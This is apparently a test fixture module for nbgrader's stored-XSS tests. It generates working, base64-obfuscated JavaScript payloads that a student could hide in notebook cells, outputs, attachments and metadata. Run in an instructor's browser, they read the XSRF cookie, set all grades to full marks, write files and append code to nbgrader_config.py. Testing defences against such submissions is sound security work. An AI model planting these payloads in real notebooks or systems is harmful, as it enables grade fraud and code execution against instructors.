"""Stored-XSS submissions for tests/test_xss.py: things a student can put in a notebook that an
instructor's browser might run when it shows the graded notebook (formgrader's submission page,
the feedback HTML).

Every payload runs the same script, which, in the instructor's browser, would act as the instructor:

- logs `XSS-RAN <name>` on the console (so a test sees that it ran at all);
- writes `pwned_<name>.txt` into the server's root (the course) with PUT /api/contents/...;
- gives every grade of the submission it is shown in full marks (formgrader's API, PUT
  /formgrader/api/grade/<id>);
- appends a line to nbgrader_config.py (which the next nbgrader command would run).

A submission is the untouched release plus what `plant` adds: no code of it scores anything.
"""
import base64
import json

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

SCRIPT = r"""
console.log('XSS-RAN NAME');
window.__xss = (window.__xss || []).concat(['NAME']);
(async () => {
  const xsrf = decodeURIComponent((document.cookie.match(/(?:^|; )_xsrf=([^;]*)/) || [])[1] || '');
  const headers = {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'};
  const put = (path, body) => fetch(path, {method: 'PUT', headers, credentials: 'include', body: JSON.stringify(body)});
  await put('/api/contents/pwned_NAME.txt', {type: 'file', format: 'text', content: 'NAME ran as the instructor'});
  if (typeof submission_id !== 'undefined') {
    const grades = await (await fetch('/formgrader/api/grades?submission_id=' + submission_id)).json();
    for (const g of grades) await put('/formgrader/api/grade/' + g.id, {manual_score: g.max_score, extra_credit: 5});
  }
  const config = await (await fetch('/api/contents/nbgrader_config.py?content=1&type=file&format=text')).json();
  await put('/api/contents/nbgrader_config.py',
            {type: 'file', format: 'text', content: config.content + '\nprint("pwned by NAME")\n'});
})();
"""


def script(name: str) -> str:
    """A one-line JavaScript expression that runs SCRIPT (no quotes, no spaces to escape)."""
    code = base64.b64encode(SCRIPT.replace("NAME", name).encode()).decode()
    return f"eval(atob('{code}'))"


def svg(name: str) -> str:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{script(name)}">'
            f'<script>{script(name)}</script><rect width="40" height="40" fill="red"/></svg>')


# name -> (cells to append, notebook metadata to merge)
def payloads() -> dict:
    b64 = lambda text: base64.b64encode(text.encode()).decode()  # noqa: E731
    md = new_markdown_cell
    widget_state = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"evil": {"model_name": "EvilModel", "model_module": "evil-widget", "model_module_version": "*",
                           "state": {"_view_module": "evil-widget", "_view_name": "EvilView",
                                     "note": "</script><img src=x onerror=\"" + script("out_widget") + "\">"}}}}}
    return {
        "md_img_onerror": ([md(f'Here is my answer. <img src=x onerror="{script("md_img_onerror")}">')], {}),
        "md_script": ([md(f"<script>{script('md_script')}</script>\n\nNothing to see.")], {}),
        "md_a_javascript": ([md(f'<a href="javascript:{script("md_a_javascript")}">click me</a>')], {}),
        "md_svg_onload": ([md(svg("md_svg_onload"))], {}),
        "md_link_javascript": ([md(f"[click me](javascript:{script('md_link_javascript')})")], {}),
        # A relative link to a file of the graded folder, which formgrader serves from its own origin
        # (plain `nbgrader autograde` copies every submitted file there; tests/test_xss.py puts it).
        "file_html": ([md("My [click me](evil.html) notes.")], {}),
        "out_html": ([new_code_cell(
            "from IPython.display import HTML, display\n"
            f"display(HTML({json.dumps('<img src=x onerror=' + chr(34) + script('out_html') + chr(34) + '>')}))")], {}),
        "out_javascript": ([new_code_cell(
            "from IPython.display import Javascript, display\n"
            f"display(Javascript({json.dumps(script('out_javascript'))}))")], {}),
        "out_svg": ([new_code_cell(
            "from IPython.display import display\n"
            f"display({{'image/svg+xml': {json.dumps(svg('out_svg'))}, 'text/plain': 'a red square'}}, raw=True)")], {}),
        "out_widget": ([new_code_cell(
            "from IPython.display import display\n"
            "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'evil', 'version_major': 2,"
            " 'version_minor': 0}, 'text/plain': 'a widget'}, raw=True)")], {"widgets": widget_state}),
        "attachment": ([md("![plot](attachment:plot.svg) and [notes](attachment:notes.html)",
                          attachments={"plot.svg": {"image/svg+xml": b64(svg("attachment"))},
                                       "notes.html": {"text/html": b64(
                                           f'<img src=x onerror="{script("attachment")}">')}}),
                        md(f'<a href="data:text/html;base64,{b64("<script>" + script("attachment") + "</script>")}">'
                           'click me</a>')], {}),
        "raw_cell": ([new_raw_cell(f'<img src=x onerror="{script("raw_cell")}">',
                                   metadata={"raw_mimetype": "text/html"})], {}),
        "metadata": ([md("An honest-looking cell.", metadata={
            "tags": [f'"><img src=x onerror="{script("metadata")}">']})],
                     {"title": f'</title><img src=x onerror="{script("metadata")}">',
                      "language_info": {"name": "python", "pygments_lexer": "ipython3",
                                        "codemirror_mode": {"name": "ipython", "version": 3},
                                        "file_extension": '.py"><img src=x onerror=1>'}}),
    }


# One attacker per group: payloads that need no separate notebook share one.
GROUPS = {
    "markdown": ["md_img_onerror", "md_script", "md_a_javascript", "md_svg_onload", "md_link_javascript",
                 "file_html"],
    "outputs": ["out_html", "out_javascript", "out_svg", "out_widget"],
    "attachments": ["attachment", "raw_cell"],
    "metadata": ["metadata"],
}


def evil_file() -> str:
    """evil.html, the file payload file_html links to."""
    return f"<html><body><script>{script('file_html')}</script><img src=x onerror=\"{script('file_html')}\"></body></html>"


def plant(notebook, names) -> None:
    """Append the cells of payloads `names` to `notebook` (a release copy), merge their notebook metadata."""
    nb = nbformat.read(notebook, as_version=4)
    for name in names:
        cells, meta = payloads()[name]
        nb.cells.extend(cells)
        nb.metadata.update(meta)
    nbformat.write(nb, notebook)
